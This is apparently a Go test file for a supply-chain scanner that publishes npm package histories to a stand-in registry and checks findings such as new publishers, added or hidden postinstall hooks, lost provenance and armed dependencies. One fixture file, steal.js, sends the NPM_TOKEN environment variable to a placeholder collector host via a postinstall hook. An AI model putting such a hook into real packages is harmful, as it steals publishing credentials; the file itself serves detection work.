package scan

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/donapi/donapi/internal/registry"
	"github.com/donapi/donapi/internal/registry/registrytest"
	"github.com/donapi/donapi/internal/report"
	"github.com/donapi/donapi/knowledge"
)

// release is one publication in a stand-in registry, so many days after the first.
type release struct {
	day      float64
	name     string // thing when not said
	version  string
	by       string // alice when not said
	pipeline bool   // published by a trusted publisher, with provenance
	hook     string // postinstall
	shown    string // postinstall as the registry shows it, when it differs
	deps     map[string]any
	sibling  string // a dependency that the code requires
}

func (r release) publish(t *testing.T, reg *registrytest.Registry) {
	t.Helper()
	now := time.Date(2026, 1, 2, 12, 0, 0, 0, time.UTC).Add(time.Duration(r.day * 24 * float64(time.Hour)))
	reg.Now = func() time.Time { return now }
	if r.name == "" {
		r.name = "thing"
	}
	user := map[string]any{"name": "alice"}
	if r.by != "" {
		user["name"] = r.by
	}
	var dist map[string]any
	if r.pipeline {
		user = map[string]any{"name": "CI", "trustedPublisher": map[string]any{"id": "github", "oidcConfigId": "oidc:1"}}
		dist = map[string]any{"attestations": map[string]any{"url": reg.URL + "/-/npm/v1/attestations/x"}}
	}
	manifest := map[string]any{"_npmUser": user, "main": "index.js", "repository": "https://forge.example/thing"}
	if r.deps != nil {
		manifest["dependencies"] = r.deps
	}
	own := fmt.Sprintf(`{"name": %q, "version": %q, "main": "index.js", "repository": "https://forge.example/thing"`, r.name, r.version)
	if r.hook != "" {
		own += fmt.Sprintf(`, "scripts": {"postinstall": %q}`, r.hook)
		manifest["scripts"] = map[string]any{"postinstall": r.hook}
	}
	switch r.shown {
	case "":
	case "nothing":
		delete(manifest, "scripts")
	default:
		manifest["scripts"] = map[string]any{"postinstall": r.shown}
	}
	var deps []string
	for d, want := range r.deps {
		deps = append(deps, fmt.Sprintf("%q: %q", d, want))
	}
	slices.Sort(deps)
	if len(deps) > 0 {
		own += `, "dependencies": {` + strings.Join(deps, ", ") + `}`
	}
	code := "exports.add = (a, b) => a + b;\n"
	if r.sibling != "" {
		code = fmt.Sprintf("const s = require(%q);\n", r.sibling) + code
	}
	err := reg.Publish(registrytest.Package{Name: r.name, Version: r.version, Manifest: manifest, Dist: dist, Files: map[string]string{
		"package.json": own + "}", "index.js": code,
		"hello.js": "console.log('thank you');\n",
		"send.js":  "require('https').get('https://metrics.example.invalid/installed');\n",
		"steal.js": "require('https').get('https://collector.example.invalid/?' + encodeURIComponent(process.env.NPM_TOKEN));\n"}})
	if err != nil {
		t.Fatal(err)
	}
}

// TestPublication publishes packages with a history, and scans the last version by name. Each sign has a twin: what honest maintainers
// do all the time.
func TestPublication(t *testing.T) {
	k, err := LoadKnowledge(knowledge.FS())
	if err != nil {
		t.Fatal(err)
	}
	s := New(k, InProcess{K: k})
	alice := []release{{day: 0, version: "1.0.0"}, {day: 10, version: "1.0.1"}, {day: 30, version: "1.1.0"}}
	piped := []release{{day: 0, version: "1.0.0", pipeline: true}, {day: 10, version: "1.0.1", pipeline: true}, {day: 30, version: "1.1.0", pipeline: true}}
	then := func(before []release, r ...release) []release { return append(slices.Clone(before), r...) }
	for _, c := range []struct {
		name     string
		releases []release
		level    report.Level
		want     []string // findings of publication
	}{
		{"nothing new", then(alice, release{day: 40, version: "1.1.1"}), report.Clear, nil},
		{"a first version", []release{{version: "1.0.0", hook: "node hello.js"}}, report.Clear, nil},
		{"a new publisher", then(alice, release{day: 40, version: "1.1.1", by: "bob"}), report.Clear, []string{"new-publisher"}},
		{"a publisher who published before", then(alice, release{day: 40, version: "1.1.1", by: "bob"}, release{day: 41, version: "1.1.2", by: "bob"}), report.Clear, nil},
		{"a hook by the same publisher", then(alice, release{day: 40, version: "1.2.0", hook: "node hello.js"}), report.Clear, []string{"hook-added"}},
		{"a hook by a new publisher", then(alice, release{day: 40, version: "1.2.0", by: "bob", hook: "node hello.js"}), report.Suspicious, []string{"hook-added", "new-publisher"}},
		{"a hook that was there before, by a new publisher", then(alice, release{day: 40, version: "1.2.0", hook: "node hello.js"}, release{day: 50, version: "1.2.1", by: "bob", hook: "node hello.js"}), report.Clear, []string{"new-publisher"}},
		{"a hook that steals, by a new publisher", then(alice, release{day: 40, version: "1.2.0", by: "bob", hook: "node steal.js"}), report.Malicious, []string{"hook-added", "new-publisher"}},
		{"a hook that calls home, by a known publisher", then(alice, release{day: 40, version: "1.2.0", hook: "node send.js"}), report.Clear, []string{"hook-added"}},
		{"a hook that changed", then(alice, release{day: 40, version: "1.2.0", hook: "node hello.js"}, release{day: 50, version: "1.2.1", hook: "node send.js"}), report.Clear, []string{"hook-changed"}},
		{"a pipeline", then(piped, release{day: 40, version: "1.1.1", pipeline: true}), report.Clear, nil},
		{"a person after a pipeline", then(piped, release{day: 40, version: "1.1.1"}), report.Clear, []string{"lost-provenance", "lost-trusted-publisher", "new-publisher"}},
		{"a person after a pipeline, with a hook", then(piped, release{day: 40, version: "1.1.1", hook: "node hello.js"}), report.Suspicious, []string{"hook-added", "lost-provenance", "lost-trusted-publisher", "new-publisher"}},
		{"provenance that was never usual", then(alice, release{day: 40, version: "1.1.1", pipeline: true}, release{day: 41, version: "1.1.2"}), report.Clear, nil},
		{"awake after years", then(alice, release{day: 900, version: "1.1.1"}), report.Clear, []string{"dormant"}},
		{"awake after years, with a hook", then(alice, release{day: 900, version: "1.1.1", hook: "node hello.js"}), report.Suspicious, []string{"dormant", "hook-added"}},
		{"back after a year of others", then(alice, release{day: 400, version: "1.2.0", by: "bob"}, release{day: 410, version: "1.2.1", by: "bob"}, release{day: 420, version: "1.2.2", by: "bob"}, release{day: 430, version: "1.2.3"}), report.Clear, []string{"returning-publisher"}},
		{"a jump", then(alice, release{day: 40, version: "99.0.0"}), report.Clear, []string{"version-jump"}},
		{"calendar versions", then(alice, release{day: 40, version: "2026.2.0"}), report.Clear, nil},
		{"a hook that the registry does not show", then(alice, release{day: 40, version: "1.2.0", hook: "node hello.js", shown: "nothing"}), report.Suspicious, []string{"hidden-hook"}},
		{"another hook than the registry shows", then(alice, release{day: 40, version: "1.2.0", hook: "node hello.js", shown: "node build.js"}), report.Clear, []string{"hook-added", "other-hook"}},
		{"a hook for native code that the registry adds", then(alice, release{day: 40, version: "1.2.0", shown: "node-gyp rebuild"}), report.Clear, []string{"hook-added"}},
		{"armed three steps down", []release{
			{day: 0, name: "step-c", version: "1.0.0"}, {day: 0.1, name: "step-b", version: "1.0.0", deps: map[string]any{"step-c": "^1.0.0"}},
			{day: 0.3, name: "step-c", version: "1.0.1", hook: "node hello.js"},
			{day: 0.2, version: "1.0.0", deps: map[string]any{"step-b": "^1.0.0"}}}, report.Suspicious, []string{"armed-dependency", "fresh-dependency", "fresh-dependency"}},
		{"siblings that come out together", []release{
			{day: 0, name: "step-c", version: "1.0.0"}, {day: 0.1, name: "step-b", version: "1.0.0", deps: map[string]any{"step-c": "^1.0.0"}, sibling: "step-c"},
			{day: 0.2, version: "1.0.0", deps: map[string]any{"step-b": "^1.0.0"}, sibling: "step-b"}}, report.Clear, []string{"fresh-dependency", "fresh-dependency"}},
		{"an old dependency that got a hook", []release{
			{day: 0, name: "step-b", version: "1.0.0"}, {day: 300, name: "step-b", version: "1.1.0", hook: "node hello.js"},
			{day: 200, version: "1.0.0", deps: map[string]any{"step-b": "^1.0.0"}}}, report.Clear, []string{"armed-dependency"}},
		{"a dependency that is gone", then(alice, release{day: 40, version: "1.1.1", deps: map[string]any{"nowhere-to-be-found": "^1.0.0"}}), report.Clear, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			reg, err := registrytest.Start("127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			defer reg.Close()
			for _, r := range c.releases {
				r.publish(t, reg)
			}
			v := scanNamed(t, s, reg, "thing")
			var got []string
			for _, f := range v.Findings {
				if id, ok := strings.CutPrefix(f.ID, "publication/"); ok {
					got = append(got, id)
				}
			}
			slices.Sort(got)
			if v.Level != c.level || !slices.Equal(got, c.want) {
				t.Errorf("%s (%s) with %v, want %s with %v\n%s", v.Level, v.Why, got, c.level, c.want, list(v))
			}
		})
	}
}

func scanNamed(t *testing.T, s *Scanner, reg *registrytest.Registry, name string) *report.Verdict {
	t.Helper()
	c, err := registry.New(registry.LoadConfig(registry.Sources{Env: []string{"npm_config_registry=" + reg.URL}}), "test")
	if err != nil {
		t.Fatal(err)
	}
	items, err := Expand(name, c, nil, func(string) bool { return false }, func(string) {})
	if err != nil {
		t.Fatal(err)
	}
	sub, err := items[0].Load(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	v, err := s.Scan(t.Context(), sub)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// TestMirror: a registry that leaves times and publishers out yields no finding, and the verdict says that nobody looked.
func TestMirror(t *testing.T) {
	k, err := LoadKnowledge(knowledge.FS())
	if err != nil {
		t.Fatal(err)
	}
	reg, err := registrytest.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer reg.Close()
	for i, v := range []string{"1.0.0", "1.0.1", "1.0.2", "1.0.3"} {
		release{day: float64(400 * i), version: v, deps: map[string]any{"x-thing": "*"}}.publish(t, reg)
	}
	reg.SetShape(registrytest.Shape{Mirror: true})
	v := scanNamed(t, New(k, InProcess{K: k}), reg, "thing")
	i := slices.IndexFunc(v.Coverage.Outcomes, func(o report.Outcome) bool { return o.Stage == "metadata" })
	if i < 0 || v.Coverage.Outcomes[i].Status != report.Skipped || v.Level != report.Clear {
		t.Errorf("%s, outcomes %+v", v.Level, v.Coverage.Outcomes)
	}
	if slices.ContainsFunc(v.Findings, func(f report.Finding) bool { return strings.HasPrefix(f.ID, "publication/") }) {
		t.Error(list(v))
	}
}

var _ Source = (*registry.Client)(nil)
